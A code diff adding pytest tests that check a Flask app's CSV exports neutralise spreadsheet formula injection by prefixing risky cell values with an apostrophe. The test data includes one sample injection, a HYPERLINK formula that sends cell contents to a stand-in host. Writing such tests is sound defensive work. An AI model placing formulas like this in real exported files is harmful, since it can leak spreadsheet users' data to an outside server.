@@ -69,3 +69,54 @@ def test_page_links_the_exports(client: FlaskClient) -> None:
     assert 'id="export-csv" href="/export.csv?year=2007&region=24" download' in text
     assert 'id="export-csv-month" href="/export.csv?year=2007&region=24&view=month"' in text
     assert client.get("/export.csv?year=2007&region=24&view=month").status_code == 200
+
+
+FORMULAS = [
+    '=HYPERLINK("http://x.example/?"&A1,"ouvrir")',
+    "+1+1",
+    "-1+1",
+    "@SUM(A1)",
+    "\tx",
+    "\rx",
+]
+
+
+def test_names_that_start_a_formula_are_exported_as_text(
+    client: FlaskClient, sessions: Any, registry: Any
+) -> None:
+    from shared.registry import StructureFields, upsert_structure
+
+    with sessions.begin() as session:
+        for n, name in enumerate(FORMULAS):
+            fields = StructureFields(name=name, kind="paio", region="11")
+            upsert_structure(session, f"PAIO-11-9{n:02d}", fields)
+    _, rows = csv_rows(client, "/export.csv?year=2007&region=11")
+    names = {row[2]: row[1] for row in rows[2:]}
+    for n, name in enumerate(FORMULAS):
+        assert names[f"PAIO-11-9{n:02d}"] == "'" + name
+    assert names["ML-11-001"] == "Mission locale de Paris"
+    # Figures stay numbers.
+    assert all(cell.replace(",", "").isdigit() for row in rows[1:] for cell in row[3:])
+
+
+def test_the_report_csv_is_inert_and_keeps_negative_numbers(monkeypatch: Any) -> None:
+    from dataclasses import replace
+
+    from shared import report
+    from shared.labels import LABELS
+    from shared.report_keys import REPORT_KEYS
+    from shared.spreadsheets import inert
+
+    monkeypatch.setitem(LABELS, "paio", replace(LABELS["paio"], label="=1+2"))
+    document = {
+        "year": 2007,
+        "version": 1,
+        "consolidated_at": "2008-01-01T00:00:00Z",
+        "figures": {key: 0 for key in REPORT_KEYS} | {"missions_locales": -3},
+        "completeness": {"structures": 1, "declarations_validated": 0},
+    }
+    rows = list(csv.reader(io.StringIO(report.report_csv(document))))
+    by_key = {row[1]: row for row in rows[1:]}
+    assert by_key["paio"][2] == "'=1+2"
+    assert by_key["missions_locales"][3] == "-3"  # a number, not text: it stays as it is
+    assert inert(-3) == -3 and inert("-3") == "'-3"
